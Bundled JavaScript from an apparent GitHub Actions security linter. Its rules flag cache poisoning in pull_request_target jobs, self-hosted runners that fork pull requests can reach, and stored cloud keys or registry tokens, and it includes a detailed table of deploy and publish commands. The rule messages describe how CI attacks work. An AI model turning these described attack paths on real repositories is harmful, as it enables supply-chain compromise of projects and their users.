        step: index,
        severity: "high",
        confidence: "medium",
        message: `${stepLabel(step, job)} uses a GitHub Actions cache (${use.action}, ${use.detail}) in a pull_request_target job that checks out the pull request (${fetched}); ` +
            `entries it saves land in the base branch's scope, where release builds restore them; ${use.fix} here`,
    });
}
//# sourceMappingURL=cache-poisoning.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/knowledge/runners.js



/** GitHub-hosted runner labels, standard and larger (`ubuntu-24.04-arm`, `macos-15-xlarge`, `ubuntu-latest-8-cores`). */
const GITHUB_HOSTED = /^(?:ubuntu|windows|macos)-[\w.-]+$/i;
/** Ephemeral runners rented from a hosting service, not machines of yours. */
const THIRD_PARTY_HOSTED = /^(?:buildjet-|namespace-profile-|nscloud-|blacksmith-|depot-|warp-|ubicloud)/i;
/**
 * The labels of a job's `runs-on:` that point at a self-hosted runner: `self-hosted`, or labels
 * that are neither GitHub-hosted nor a hosting service's. `${{ matrix.x }}` is resolved against
 * literal matrix values; other expressions are unknown and yield nothing.
 */
function selfHostedLabels(job) {
    const runsOn = job.runsOn;
    if (!runsOn)
        return [];
    // { group: name, labels: [...] }: the group may be GitHub-hosted larger runners; judge the labels
    const labelsNode = (0,dist.isMap)(runsOn) ? (0,model_source/* valueOf */.RP)(runsOn, "labels") : runsOn;
    const nodes = (0,model_source/* listOf */.c3)(labelsNode).filter((n) => (0,dist.isScalar)(n));
    // a scalar `${{ matrix.os }}` is one runner per matrix value; a list is one runner with all labels
    const sets = (0,dist.isScalar)(labelsNode) && nodes[0] ? runners_resolve(nodes[0], job).map((label) => [{ label, node: nodes[0] }]) : [nodes.flatMap((node) => runners_resolve(node, job).map((label) => ({ label, node })))];
    for (const labels of sets) {
        if (labels.length === 0)
            continue;
        const explicit = labels.find((l) => l.label.toLowerCase() === "self-hosted");
        if (explicit)
            return [{ ...explicit, certainty: "explicit" }];
        if (labels.some(({ label }) => GITHUB_HOSTED.test(label) || THIRD_PARTY_HOSTED.test(label) || label.includes("${{")))
            continue;
        return [{ ...labels[0], certainty: "inferred" }];
    }
    return [];
}
/** The label values a scalar can take: itself, or the literal values of the matrix key it names. */
function runners_resolve(node, job) {
    const text = (0,model_source/* scalarText */.ws)(node);
    if (!text)
        return [];
    const spans = (0,expressions/* findExpressions */.zV)(text);
    if (spans.length === 0)
        return [text.trim()];
    if (spans.length !== 1 || text.trim() !== spans[0].text)
        return [text];
    const simple = /^matrix\.([\w-]+)$/.exec(spans[0].inner);
    if (!simple || !simple[1])
        return [text];
    const key = simple[1];
    const matrix = (0,model_source/* valueOf */.RP)(job.strategy, "matrix");
    const out = [];
    for (const item of (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(matrix, key))) {
        if ((0,dist.isSeq)(item))
            continue;
        const value = (0,model_source/* scalarText */.ws)(item);
        out.push(value ?? text);
    }
    for (const entry of (0,model_source/* listOf */.c3)((0,model_source/* valueOf */.RP)(matrix, "include"))) {
        const value = (0,model_source/* scalarText */.ws)((0,model_source/* valueOf */.RP)(entry, key));
        if (value)
            out.push(value);
    }
    return out.length > 0 ? out : [text];
}
//# sourceMappingURL=runners.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/self-hosted-pr.js




/** Triggers through which a fork's pull request runs, with what runs. */
const FORK_TRIGGERS = [
    { event: "pull_request", runs: "fork code" },
    { event: "pull_request_review", runs: "fork code" },
    { event: "pull_request_review_comment", runs: "fork code" },
    { event: "pull_request_target", runs: "base code" },
    { event: "issue_comment", runs: "base code" },
];
/**
 * A self-hosted runner keeps state between jobs and sits in your network. A workflow that forks
 * can trigger hands that machine to anyone who opens a pull request: directly under pull_request
 * (the fork's code runs), or through any injection under pull_request_target / issue_comment.
 */
const selfHostedPr = {
    id: "self-hosted-pr",
    title: "Self-hosted runner reachable from fork pull requests",
    severity: "high",
    confidence: "high",
    targets: ["workflow"],
    check(ctx) {
        const workflow = ctx.target;
        if (workflow.kind !== "workflow")
            return;
        const events = (0,walk/* eventNames */.Z2)(workflow);
        const triggers = FORK_TRIGGERS.filter((t) => events.has(t.event));
        if (triggers.length === 0)
            return;
        const forkEvents = triggers.map((t) => t.event);
        for (const job of workflow.jobs) {
            if (job.uses || excludesForks((0,model_source/* scalarText */.ws)(job.if), forkEvents))
                continue;
            const label = selfHostedLabels(job)[0];
            if (!label)
                continue;
            const worst = triggers.find((t) => t.runs === "fork code") ?? triggers[0];
            const what = worst.runs === "fork code" ? "any fork's pull request runs its own code" : "any fork's pull request starts this job, one injection away from running its code";
            ctx.report({
                at: workflow.source.positionOf(label.node),
                job: job.id,
                severity: worst.runs === "fork code" ? "high" : "medium",
                confidence: label.certainty === "explicit" ? "high" : "medium",
                message: `job ${job.id} runs on ${label.certainty === "explicit" ? "a self-hosted runner" : `runner label '${label.label}', which GitHub does not host`} and the workflow runs on ${worst.event}, so ${what} on your machine, which keeps state between jobs and can reach your network; ` +
                    `run pull-request jobs on GitHub-hosted runners, or limit this job to this repository's branches (if: github.event.pull_request.head.repo.full_name == github.repository)`,
            });
        }
    },
};
//# sourceMappingURL=self-hosted-pr.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/credentials/cloud-auth.js


const given = (step, name) => {
    const value = input(step, name);
    return value !== undefined && value.trim() !== "";
};
/**
 * The cloud login a step performs, for the three providers that federate GitHub's OIDC token:
 * configure-aws-credentials, google-github-actions/auth and azure/login.
 */
function cloudAuthOf(source, step) {
    const action = stepAction(step);
    const at = (name) => {
        const pair = name ? (0,model_source/* pairOf */.cF)(step.withNode, name) : undefined;
        return pair ? source.positionOf(pair) : source.positionOf(step.uses);
    };
    if (action === "aws-actions/configure-aws-credentials") {
        const key = ["aws-access-key-id", "aws-secret-access-key"].find((k) => given(step, k));
        if (key)
            return { provider: "AWS", action, mode: "static", keyInput: key, at: at(key) };
        if (given(step, "role-to-assume") && !given(step, "web-identity-token-file"))
            return { provider: "AWS", action, mode: "oidc", at: at() };
        return undefined;
    }
    if (action === "google-github-actions/auth") {
        if (given(step, "credentials_json"))
            return { provider: "Google Cloud", action, mode: "static", keyInput: "credentials_json", at: at("credentials_json") };
        if (given(step, "workload_identity_provider"))
            return { provider: "Google Cloud", action, mode: "oidc", at: at() };
        return undefined;
    }
    if (action === "azure/login") {
        if (given(step, "creds"))
            return { provider: "Azure", action, mode: "static", keyInput: "creds", at: at("creds") };
        if (given(step, "client-id"))
            return { provider: "Azure", action, mode: "oidc", at: at() };
        return undefined;
    }
    return undefined;
}
/** The `id-token` level a permissions block grants, or undefined when it says nothing. */
function idTokenLevel(permissions) {
    if (!permissions)
        return undefined;
    if (permissions.kind === "all")
        return permissions.level;
    return permissions.scopes.get("id-token")?.level ?? "none";
}
//# sourceMappingURL=cloud-auth.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/deploy/detect.js



const yes = (value) => {
    if (value === undefined)
        return false;
    if (value.includes("${{"))
        return "maybe";
    return value.trim().toLowerCase() === "true";
};
/** Actions that ship, by `owner/repo[/path]`. A function decides from the step's inputs. */
const ACTIONS = {
    "docker/build-push-action": (s) => pushes(s, "docker/build-push-action"),
    "docker/bake-action": (s) => pushes(s, "docker/bake-action"),
    "redhat-actions/push-to-registry": () => ({ kind: "image-push", what: "redhat-actions/push-to-registry" }),
    "actions/deploy-pages": () => ({ kind: "pages", what: "actions/deploy-pages" }),
    "peaceiris/actions-gh-pages": () => ({ kind: "pages", what: "peaceiris/actions-gh-pages" }),
    "jamesives/github-pages-deploy-action": () => ({ kind: "pages", what: "JamesIves/github-pages-deploy-action" }),
    "stefanprodan/helm-gh-pages": () => ({ kind: "pages", what: "stefanprodan/helm-gh-pages" }),
    "softprops/action-gh-release": () => ({ kind: "release", what: "softprops/action-gh-release" }),
    "ncipollo/release-action": () => ({ kind: "release", what: "ncipollo/release-action" }),
    "actions/create-release": () => ({ kind: "release", what: "actions/create-release" }),
    "actions/upload-release-asset": () => ({ kind: "release", what: "actions/upload-release-asset" }),
    "svenstaro/upload-release-action": () => ({ kind: "release", what: "svenstaro/upload-release-action" }),
    "marvinpinto/action-automatic-releases": () => ({ kind: "release", what: "marvinpinto/action-automatic-releases" }),
    "helm/chart-releaser-action": () => ({ kind: "release", what: "helm/chart-releaser-action" }),
    "goreleaser/goreleaser-action": (s) => {
        const args = input(s, "args") ?? "";
        return /(^|\s)release\b/.test(args) && !/--snapshot|--skip[= ]?publish|--skip-publish/.test(args) ? { kind: "release", what: "goreleaser release" } : undefined;
    },
    "pypa/gh-action-pypi-publish": () => ({ kind: "publish", what: "pypa/gh-action-pypi-publish" }),
    "js-devtools/npm-publish": () => ({ kind: "publish", what: "JS-DevTools/npm-publish" }),
    "changesets/action": (s) => (input(s, "publish") ? { kind: "publish", what: "changesets/action publish" } : undefined),
    "aws-actions/amazon-ecs-deploy-task-definition": () => ({ kind: "deploy", what: "aws-actions/amazon-ecs-deploy-task-definition" }),
    "aws-actions/aws-cloudformation-github-deploy": () => ({ kind: "deploy", what: "aws-actions/aws-cloudformation-github-deploy" }),
    "google-github-actions/deploy-cloudrun": () => ({ kind: "deploy", what: "google-github-actions/deploy-cloudrun" }),
    "google-github-actions/deploy-appengine": () => ({ kind: "deploy", what: "google-github-actions/deploy-appengine" }),
    "google-github-actions/deploy-cloud-functions": () => ({ kind: "deploy", what: "google-github-actions/deploy-cloud-functions" }),
    "azure/webapps-deploy": () => ({ kind: "deploy", what: "azure/webapps-deploy" }),
    "azure/functions-action": () => ({ kind: "deploy", what: "azure/functions-action" }),
    "azure/k8s-deploy": () => ({ kind: "deploy", what: "azure/k8s-deploy" }),
    "azure/arm-deploy": () => ({ kind: "deploy", what: "azure/arm-deploy" }),
    "azure/container-apps-deploy-action": () => ({ kind: "deploy", what: "azure/container-apps-deploy-action" }),
    "azure/static-web-apps-deploy": () => ({ kind: "deploy", what: "azure/static-web-apps-deploy" }),
    "azure/aci-deploy": () => ({ kind: "deploy", what: "azure/aci-deploy" }),
    "azure/spring-apps-deploy": () => ({ kind: "deploy", what: "azure/spring-apps-deploy" }),
    "cloudflare/wrangler-action": (s) => (/\b(dev|whoami)\b/.test(input(s, "command") ?? "") ? undefined : { kind: "deploy", what: "cloudflare/wrangler-action" }),
    "cloudflare/pages-action": () => ({ kind: "deploy", what: "cloudflare/pages-action" }),
    "amondnet/vercel-action": () => ({ kind: "deploy", what: "amondnet/vercel-action" }),
    "nwtgck/actions-netlify": () => ({ kind: "deploy", what: "nwtgck/actions-netlify" }),
    "superfly/flyctl-actions": (s) => (/\bdeploy\b/.test(input(s, "args") ?? "") ? { kind: "deploy", what: "flyctl deploy" } : undefined),
    "serverless/github-action": (s) => (/\bdeploy\b/.test(input(s, "args") ?? "") ? { kind: "deploy", what: "serverless deploy" } : undefined),
    "akhileshns/heroku-deploy": () => ({ kind: "deploy", what: "akhileshns/heroku-deploy" }),
    "appleboy/ssh-action": () => ({ kind: "deploy", what: "appleboy/ssh-action" }),
    "appleboy/scp-action": () => ({ kind: "deploy", what: "appleboy/scp-action" }),
    "easingthemes/ssh-deploy": () => ({ kind: "deploy", what: "easingthemes/ssh-deploy" }),
    "samkirkland/ftp-deploy-action": () => ({ kind: "deploy", what: "SamKirkland/FTP-Deploy-Action" }),
    "burnett01/rsync-deployments": () => ({ kind: "deploy", what: "burnett01/rsync-deployments" }),
};
function pushes(step, what) {
    const push = yes(input(step, "push"));
    if (push === true)
        return { kind: "image-push", what: `${what} with push: true` };
    if (push === "maybe")
        return { kind: "image-push", what: `${what} with a conditional push`, conditional: true };
    const outputs = `${input(step, "outputs") ?? ""} ${input(step, "set") ?? ""}`;
    if (/type=registry|push=true/.test(outputs))
        return { kind: "image-push", what: `${what} with a registry output` };
    return undefined;
}
const LEAD = String.raw `(?:^|[\s/(])`;
const ARGS = String.raw `(?:\s+\S+)*?\s+`;
/** The end of a subcommand word: `publish` but not `publish-docs`. */
const END = String.raw `(?=\s|$)`;
/** Commands that ship. Each is matched on one simple command of a `run:` line. */
const COMMANDS = [
    { tools: ["kubectl"], re: new RegExp(`${LEAD}kubectl${ARGS}(apply|create|replace|patch|set\\s+image|rollout\\s+restart)${END}`), kind: "deploy", what: (m) => `kubectl ${m[1]}`, unless: /--dry-run(?!=none)/, local: "cluster" },
    { tools: ["helm"], re: new RegExp(`${LEAD}helm${ARGS}(upgrade|install)${END}`), kind: "deploy", what: (m) => `helm ${m[1]}`, unless: /--dry-run/, local: "cluster" },
    { tools: ["helm"], re: new RegExp(`${LEAD}helm${ARGS}push${END}`), kind: "publish", what: () => "helm push", local: "registry" },
    { tools: ["terraform", "tofu", "terragrunt"], re: new RegExp(`${LEAD}(terraform|tofu|terragrunt)${ARGS}(apply|destroy)${END}`), kind: "deploy", what: (m) => `${m[1]} ${m[2]}` },
    { tools: ["pulumi"], re: new RegExp(`${LEAD}pulumi${ARGS}(up|update|destroy)${END}`), kind: "deploy", what: (m) => `pulumi ${m[1]}`, unless: /--preview-only/ },
    { tools: ["cdk", "sam", "serverless", "sls"], re: new RegExp(`${LEAD}(cdk|sam|serverless|sls)${ARGS}deploy${END}`), kind: "deploy", what: (m) => `${m[1]} deploy` },
    { tools: ["aws"], re: new RegExp(`${LEAD}aws${ARGS}(ecs\\s+update-service|lambda\\s+update-function-code|cloudformation\\s+(?:deploy|create-stack|update-stack)|deploy\\s+create-deployment|elasticbeanstalk\\s+update-environment|apprunner\\s+start-deployment)${END}`), kind: "deploy", what: (m) => `aws ${m[1].replace(/\s+/g, " ")}` },
    { tools: ["aws"], re: new RegExp(`${LEAD}aws${ARGS}s3\\s+(sync|cp|mv)${END}`), kind: "deploy", what: (m) => `aws s3 ${m[1]}`, test: (w) => /^s3:\/\//.test(w.filter((x) => !x.startsWith("-")).at(-1) ?? "") },
    { tools: ["gcloud"], re: new RegExp(`${LEAD}gcloud${ARGS}((?:run|app|functions)\\s+deploy|run\\s+services\\s+(?:update|replace))${END}`), kind: "deploy", what: (m) => `gcloud ${m[1].replace(/\s+/g, " ")}` },
    { tools: ["az"], re: new RegExp(`${LEAD}az${ARGS}((?:webapp|functionapp)\\s+(?:deploy|up|deployment\\s+source)|deployment\\s+(?:group|sub)\\s+create|containerapp\\s+(?:update|up))${END}`), kind: "deploy", what: (m) => `az ${m[1].replace(/\s+/g, " ")}` },
    { tools: ["firebase", "netlify", "fly", "flyctl", "wrangler", "vercel"], re: new RegExp(`${LEAD}(firebase|netlify|fly|flyctl|wrangler|vercel)${ARGS}(deploy|publish)${END}`), kind: "deploy", what: (m) => `${m[1]} ${m[2]}` },
    { tools: ["vercel"], re: new RegExp(`${LEAD}vercel\\b.*\\s--prod${END}`), kind: "deploy", what: () => "vercel --prod" },
    { tools: ["heroku"], re: new RegExp(`${LEAD}heroku${ARGS}(container:release|releases:promote)${END}`), kind: "deploy", what: (m) => `heroku ${m[1]}` },
    { tools: ["mike"], re: new RegExp(`${LEAD}mike${ARGS}deploy\\b.*\\s--push${END}`), kind: "pages", what: () => "mike deploy --push" },
    { tools: ["yarn"], re: new RegExp(`${LEAD}yarn(?:\\s+npm)?\\s+publish${END}`), kind: "publish", what: () => "yarn publish", unless: /--dry-run/ },
    { tools: ["npm", "pnpm", "lerna"], re: new RegExp(`${LEAD}(npm|pnpm|lerna)${ARGS}publish${END}`), kind: "publish", what: (m) => `${m[1]} publish`, unless: /--dry-run|(?:^|\s)-n\b/ },
    { tools: ["changeset"], re: new RegExp(`${LEAD}changeset${ARGS}publish\\b|${LEAD}changeset\\s+publish${END}`), kind: "publish", what: () => "changeset publish" },
    { tools: ["twine"], re: new RegExp(`${LEAD}twine${ARGS}upload${END}`), kind: "publish", what: () => "twine upload" },
    { tools: ["poetry", "uv", "hatch", "flit", "pdm"], re: new RegExp(`${LEAD}(poetry|uv|hatch|flit|pdm)${ARGS}publish${END}`), kind: "publish", what: (m) => `${m[1]} publish`, unless: /--dry-run/ },
    { tools: ["maturin"], re: new RegExp(`${LEAD}maturin${ARGS}(publish|upload)${END}`), kind: "publish", what: (m) => `maturin ${m[1]}` },
    { tools: ["cargo"], re: new RegExp(`${LEAD}cargo${ARGS}publish${END}`), kind: "publish", what: () => "cargo publish", unless: /--dry-run|(?:^|\s)-n\b/ },
    { tools: ["gem"], re: new RegExp(`${LEAD}gem${ARGS}push${END}`), kind: "publish", what: () => "gem push" },
    { tools: ["dotnet", "nuget"], re: new RegExp(`${LEAD}(dotnet\\s+nuget|nuget)${ARGS}push${END}`), kind: "publish", what: (m) => `${m[1]} push` },
    { tools: ["mvn", "mvnw"], re: new RegExp(`${LEAD}(mvn|mvnw)${ARGS}deploy${END}`), kind: "publish", what: () => "mvn deploy" },
    { tools: ["gradle", "gradlew"], re: new RegExp(`${LEAD}(gradle|gradlew)${ARGS}(publish\\w*)${END}`), kind: "publish", what: (m) => `gradle ${m[2]}` },
    { tools: ["vsce", "ovsx"], re: new RegExp(`${LEAD}(vsce|ovsx)${ARGS}publish${END}`), kind: "publish", what: (m) => `${m[1]} publish` },
    { tools: ["pod"], re: new RegExp(`${LEAD}pod\\s+trunk\\s+push${END}`), kind: "publish", what: () => "pod trunk push" },
    { tools: ["mix"], re: new RegExp(`${LEAD}mix\\s+hex\\.publish${END}`), kind: "publish", what: () => "mix hex.publish" },
    { tools: ["docker", "podman", "buildah"], re: new RegExp(`${LEAD}(docker|podman|buildah)${ARGS}push${END}`), kind: "image-push", what: (m) => `${m[1]} push`, local: "registry" },
    { tools: ["docker"], re: new RegExp(`${LEAD}docker${ARGS}(buildx\\s+(?:build|bake)|build|bake)\\b.*\\s--push${END}`), kind: "image-push", what: (m) => `docker ${m[1].replace(/\s+/g, " ")} --push`, local: "registry" },
    { tools: ["docker"], re: new RegExp(`${LEAD}docker${ARGS}manifest\\s+push${END}`), kind: "image-push", what: () => "docker manifest push", local: "registry" },
    { tools: ["crane", "gcrane"], re: new RegExp(`${LEAD}(crane|gcrane)${ARGS}(push|copy|cp|append|tag)${END}`), kind: "image-push", what: (m) => `${m[1]} ${m[2]}`, local: "registry" },
    { tools: ["skopeo"], re: new RegExp(`${LEAD}skopeo${ARGS}copy\\b.*\\sdocker://`), kind: "image-push", what: () => "skopeo copy", local: "registry" },
    { tools: ["oras", "regctl"], re: new RegExp(`${LEAD}(oras|regctl)${ARGS}(push|copy|image\\s+copy)${END}`), kind: "image-push", what: (m) => `${m[1]} ${m[2]}`, local: "registry" },
    { tools: ["ko"], re: new RegExp(`${LEAD}ko${ARGS}(build|publish|resolve|apply)${END}`), kind: "image-push", what: (m) => `ko ${m[1]}`, unless: /--push[= ]false|(?:^|\s)(?:-L|--local)\b|ko\.local|kind\.local/, local: "registry" },
    { tools: ["gh"], re: new RegExp(`${LEAD}gh${ARGS}release\\s+(create|upload|edit)${END}`), kind: "release", what: (m) => `gh release ${m[1]}` },
    { tools: ["goreleaser"], re: new RegExp(`${LEAD}goreleaser${ARGS}release${END}`), kind: "release", what: () => "goreleaser release", unless: /--snapshot|--skip[= ]?publish|--skip-publish/ },
    { tools: ["jreleaser"], re: new RegExp(`${LEAD}jreleaser${ARGS}(full-release|release|deploy|publish)${END}`), kind: "release", what: (m) => `jreleaser ${m[1]}`, unless: /--dry-run/ },
];
/** Hosts of throwaway registries: pushing there ships nothing. */
const LOCAL_REGISTRY = /\b(?:localhost|127\.0\.0\.1|0\.0\.0\.0|registry\.local|kind\.local|ko\.local|kind-registry|ttl\.sh)\b/;
const LOCAL_CLUSTER_ACTION = /(?:^|[/-])(?:kind|k3d|k3s|minikube|microk8s)(?:[/-]|$)/;
const LOCAL_CLUSTER_RUN = /\bkind\s+(?:create|load|get)\b|\bk3d\s+cluster\b|\bminikube\s+start\b|\bmicrok8s\b|\bmake\s+[\w.-]*kind[\w.-]*/;
const REGISTRY_SERVICE = /^(?:docker\.io\/)?(?:library\/)?registry(?::|@|$)|distribution\/registry/;
/** Whether a job brings up its own cluster or registry, so kubectl/helm/push there are tests. */
function localTargets(job) {
    if (!job)
        return { cluster: false, registry: false };
    let cluster = false;
    let registry = false;
    for (const step of job.steps) {
        const action = stepAction(step);
        if (action && LOCAL_CLUSTER_ACTION.test(action))
            cluster = true;
        const uses = (0,model_source/* scalarText */.ws)(step.uses) ?? "";
        if (uses.startsWith("./") && LOCAL_CLUSTER_ACTION.test(uses))
            cluster = true;
        const run = (0,model_source/* scalarText */.ws)(step.run) ?? "";
        if (LOCAL_CLUSTER_RUN.test(run))
            cluster = true;
        if (/\bregistry:2\b|distribution\/registry|LOCAL_REGISTRY|local-registry/.test(run))
            registry = true;
    }
    for (const text of envTexts(job.env))
        if (LOCAL_REGISTRY.test(text))
            registry = true;
    for (const [, pair] of (0,model_source/* entries */.jO)(job.services)) {
        const image = (0,model_source/* textOf */.b6)(pair.value, "image");
        if (image && REGISTRY_SERVICE.test(image))
            registry = true;
    }
    return { cluster, registry: registry || cluster };
}
function envTexts(env) {
    return [...env.values()].map(model_source/* scalarText */.ws).filter((v) => v !== undefined);
}
/**
 * The steps of a job (or composite action) that deploy, publish, push images or write releases.
 * Worked out once per job and shared by the rules that ask: do not modify the result.
 */
function deploySteps(source, steps, job) {
    const cached = deployCache.get(steps);
    if (cached && cached.source === source && cached.job === job)
        return cached.found;
    const found = findDeploySteps(source, steps, job);
    deployCache.set(steps, { source, job, found });
    return found;
}
const deployCache = new WeakMap();
function findDeploySteps(source, steps, job) {
    // Whether the job runs its own cluster or registry is only asked when a command would deploy there.
    let jobLocal;
    const local = () => (jobLocal ??= localTargets(job));
    const out = [];
    for (const step of steps) {
        const action = stepAction(step);
        if (action !== undefined) {
            const verdict = ACTIONS[action]?.(step);
            if (verdict?.kind === "image-push" && pushesLocally(source, step, steps, job))
                continue;
            if (verdict)
                out.push({ step, kind: verdict.kind, what: verdict.what, at: source.positionOf(step.uses), conditional: verdict.conditional ?? false });
            continue;
        }
        if (!step.run)
            continue;
        const script = (0,model_source/* scalarText */.ws)(step.run) ?? "";
        if (!TOOL_IN_SCRIPT.test(script))
            continue;
        // Whether the step pushes to a throwaway registry is only asked when a push is found.
        let stepLocal;
        const targets = {
            get cluster() {
                return local().cluster;
            },
            get registry() {
                stepLocal ??= LOCAL_REGISTRY.test(script) || envTexts(step.env).some((t) => LOCAL_REGISTRY.test(t));
                return local().registry || stepLocal;
            },
        };
        for (const line of script_lines_scriptLines(source, step.run)) {
            const hit = matchCommand(line, targets);
            if (hit) {
                out.push({ step, kind: hit.kind, what: hit.what, at: line.find(hit.needle), conditional: false });
                break;
            }
        }
    }
    return out;
}
/**
 * Whether an image-push action targets a throwaway registry. Its `tags:` are followed one step
 * back (`steps.meta.outputs.tags` → that docker/metadata-action's `images:`) and through `env.X`.
 * A job's own registry service alone does not decide: jobs often build a base image there and
 * push the final one to a real registry.
 */
function pushesLocally(source, step, steps, job) {
    let target = ["tags", "outputs", "set", "image", "registry"].map((k) => input(step, k) ?? "").join("\n");
    for (const m of target.matchAll(/steps\.([\w-]+)\.outputs/g)) {
        const from = steps.find((s) => s.id === m[1]);
        if (from)
            target += `\n${input(from, "images") ?? ""}`;
    }
    const workflowEnv = (0,model_source/* valueOf */.RP)(source.root, "env");
    for (const m of target.matchAll(/env\.(\w+)/g)) {
        const name = m[1];
        for (const value of [(0,model_source/* textOf */.b6)(workflowEnv, name), (0,model_source/* scalarText */.ws)(job?.env.get(name)), (0,model_source/* scalarText */.ws)(step.env.get(name))])
            target += `\n${value ?? ""}`;
    }
    return LOCAL_REGISTRY.test(target);
}
function matchCommand(line, local) {
    if (!TOOL_IN_LINE.test(line.text))
        return undefined;
    for (const command of commandsIn(line)) {
        const { text } = command;
        if (/^(?:echo|printf|#)\b/.test(text))
            continue;
        for (const rule of rulesFor(text)) {
            const m = rule.re.exec(` ${text}`);
            if (!m)
                continue;
            if (rule.unless?.test(text))
                continue;
            if (rule.local && local[rule.local])
                continue;
            if (rule.test && !rule.test(wordsIn(command)))
                continue;
            const needle = m[0].trim().split(/\s+/)[0].replace(/^[/(]/, "");
            return { kind: rule.kind, what: rule.what(m), needle };
        }
    }
    return undefined;
}
const TOOL_NAMES = [...new Set(COMMANDS.flatMap((c) => c.tools))].join("|");
/**
 * A tool of the table as a word where a rule can start: after LEAD in a command, or also after
 * `;`, `|` or `&` in a script or line not yet split into commands. No rule matches without one.
 */
const TOOL_IN_SCRIPT = new RegExp(`(?:^|[\\s/(;|&])(?:${TOOL_NAMES})(?!\\w)`);
const TOOL_IN_LINE = TOOL_IN_SCRIPT;
const TOOL_IN_COMMAND = new RegExp(`(?:^|[\\s/(])(${TOOL_NAMES})(?!\\w)`, "g");
/** The rules of the table that name a tool, in table order. */
const RULES_BY_TOOL = new Map();
for (const rule of COMMANDS) {
    for (const tool of rule.tools)
        RULES_BY_TOOL.set(tool, [...(RULES_BY_TOOL.get(tool) ?? []), rule]);
}
/**
 * The rules worth trying on a command: those of the tools it names as words, in table order.
 * (A match of TOOL_IN_COMMAND takes the character before the tool, never the next tool's.)
 */
function rulesFor(text) {
    let first;
    let more;
    TOOL_IN_COMMAND.lastIndex = 0;
    for (let m = TOOL_IN_COMMAND.exec(text); m; m = TOOL_IN_COMMAND.exec(text)) {
        const tool = m[1];
        if (first === undefined)
            first = tool;
        else if (tool !== first)
            (more ??= new Set([first])).add(tool);
    }
    if (first === undefined)
        return [];
    if (!more)
        return RULES_BY_TOOL.get(first) ?? [];
    const wanted = new Set([...more].flatMap((tool) => RULES_BY_TOOL.get(tool) ?? []));
    return COMMANDS.filter((rule) => wanted.has(rule));
}
const UPLOADS = new Set(["actions/upload-artifact", "actions/upload-pages-artifact"]);
/**
 * Steps that write something that outlives the job: an artifact upload, or anything in
 * the deploy table (packages, images, releases, sites).
 */
function artifactWrites(source, steps, job) {
    const deploys = new Map(deploySteps(source, steps, job).map((d) => [d.step, d]));
    const out = [];
    for (const step of steps) {
        const action = stepAction(step);
        if (action !== undefined && UPLOADS.has(action)) {
            out.push({ step, what: action, at: source.positionOf(step.uses) });
            continue;
        }
        const deploy = deploys.get(step);
        if (deploy && deploy.kind !== "deploy")
            out.push({ step, what: deploy.what, at: deploy.at });
    }
    return out;
}
//# sourceMappingURL=detect.js.map
;// CONCATENATED MODULE: ./packages/workflow/dist/rules/long-lived-credentials.js





/** Env variables that hold a cloud provider's static key, and the provider. */
const CLOUD_KEY_ENV = {
    AWS_ACCESS_KEY_ID: "AWS",
    AWS_SECRET_ACCESS_KEY: "AWS",
    AZURE_CLIENT_SECRET: "Azure",
    ARM_CLIENT_SECRET: "Azure",
    GOOGLE_CREDENTIALS: "Google Cloud",
    GOOGLE_APPLICATION_CREDENTIALS_JSON: "Google Cloud",
};
const CLOUD_FIX = {
    AWS: "grant `id-token: write` and use aws-actions/configure-aws-credentials with `role-to-assume` (an IAM role trusting GitHub's OIDC provider), then delete the access key",
    Azure: "grant `id-token: write` and use azure/login with `client-id`, `tenant-id` and `subscription-id` (a federated credential on the app registration), then delete the client secret",
    "Google Cloud": "grant `id-token: write` and use google-github-actions/auth with `workload_identity_provider` and `service_account`, then delete the key",
};
/** Cloud container registries, which accept tokens minted from the OIDC login above. */
const CLOUD_REGISTRIES = [
    [/\.dkr\.ecr\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?$|^public\.ecr\.aws$/i, "AWS"],
    [/(?:^|\.)gcr\.io$|-docker\.pkg\.dev$/i, "Google Cloud"],
    [/\.azurecr\.io$/i, "Azure"],
];
/** Package registries with trusted publishing, the token variables their tools read, and how to switch. */
const REGISTRY_TOKENS = [
    {
        registry: "npm",
        publish: /^(?:npm|pnpm|yarn|lerna|changeset) publish$|^changesets\/action publish$|^JS-DevTools\/npm-publish$/,
        env: ["NODE_AUTH_TOKEN", "NPM_TOKEN", "NPM_AUTH_TOKEN", "NPM_CONFIG_TOKEN"],
        fix: "configure npm trusted publishing for this workflow on npmjs.com, grant `id-token: write`, publish with npm 11.5.1 or later and revoke the token",
    },
    {
        registry: "PyPI",
        publish: /^(?:pypa\/gh-action-pypi-publish|twine upload|uv publish|poetry publish|hatch publish|pdm publish|flit publish|maturin (?:publish|upload))$/,
        env: ["TWINE_PASSWORD", "UV_PUBLISH_TOKEN", "POETRY_PYPI_TOKEN_PYPI", "HATCH_INDEX_AUTH", "PDM_PUBLISH_PASSWORD", "FLIT_PASSWORD", "MATURIN_PYPI_TOKEN", "MATURIN_PASSWORD"],
        fix: "add this workflow as a trusted publisher on PyPI, grant `id-token: write` and publish with pypa/gh-action-pypi-publish without a password, then revoke the token",
    },
    {
        registry: "crates.io",
        publish: /^cargo publish$/,
        env: ["CARGO_REGISTRY_TOKEN"],
        fix: "configure trusted publishing on crates.io, grant `id-token: write` and get a short-lived token from rust-lang/crates-io-auth-action, then revoke the token",
    },
    {
        registry: "RubyGems",
        publish: /^gem push$/,
        env: ["GEM_HOST_API_KEY"],
        fix: "configure a trusted publisher on rubygems.org, grant `id-token: write` and publish with rubygems/release-gem, then revoke the API key",
    },
];
/**
 * Stored, long-lived cloud keys and registry tokens where the provider accepts GitHub's OIDC
 * token instead: a leaked key works until someone rotates it, a federated token for minutes.
 */
const longLivedCredentials = {
    id: "long-lived-credentials",
    title: "Long-lived credential where OIDC federation is available",
    severity: "high",
    confidence: "high",
    check(ctx) {
        const { target } = ctx;
        const source = target.source;
        const workflowEnv = target.kind === "workflow" ? (0,model_source/* valueOf */.RP)(source.root, "env") : undefined;
        const scopes = target.kind === "workflow" ? target.jobs.map((job) => ({ job, steps: job.steps })) : [{ steps: target.steps }];
        const reportedEnv = new Set();
        for (const { job, steps } of scopes) {
            const where = job ? `job ${job.id}` : "this action";
            for (const step of steps) {
                loginActions(ctx, step, where, job);
                registryLogin(ctx, step, where, job);
            }
            const envBlocks = [
                { node: workflowEnv, where: "the workflow-level env" },
